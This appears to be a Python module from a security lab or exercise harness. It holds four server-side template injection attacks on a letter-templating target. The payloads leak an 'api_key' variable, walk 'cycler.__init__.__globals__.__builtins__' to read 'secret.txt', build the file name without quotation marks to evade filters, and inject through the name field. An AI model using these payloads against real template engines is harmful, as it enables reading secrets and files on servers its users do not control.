"""Attacks by a line of a letter."""

from prover import Target

from .stage import Stage


def attack_other_figure(target: Target, stage: Stage) -> bool:
    """Print a variable that the letter does not show."""
    found = target.letter("Ana", "{{ api_key }}", stage.figures)
    print(found)
    return stage.secret in found


def attack_open_a_file(target: Target, stage: Stage) -> bool:
    """Go from a class of the engine to Python's built-in functions, and open a file."""
    walk = "cycler.__init__.__globals__.__builtins__.open('secret.txt').read()"
    found = target.letter("Ana", "{% print " + walk + " %}", stage.figures)
    print(found)
    return stage.secret in found


def attack_no_quotes(target: Target, stage: Stage) -> bool:
    """Open the file by a name that is built without quotation marks."""
    name = "{% set name = dict(secret=1) | join ~ (1.5 | string)[1] ~ dict(txt=1) | join %}"
    walk = "cycler.__init__.__globals__.__builtins__.open(name).read()"
    found = target.letter("Ana", name + "{% print " + walk + " %}", stage.figures)
    print(found)
    return stage.secret in found


def attack_by_the_name(target: Target, stage: Stage) -> bool:
    """Write a statement instead of an expression, and write it as the name."""
    found = target.letter("{% print api_key %}", "hello", stage.figures)
    print(found)
    return stage.secret in found
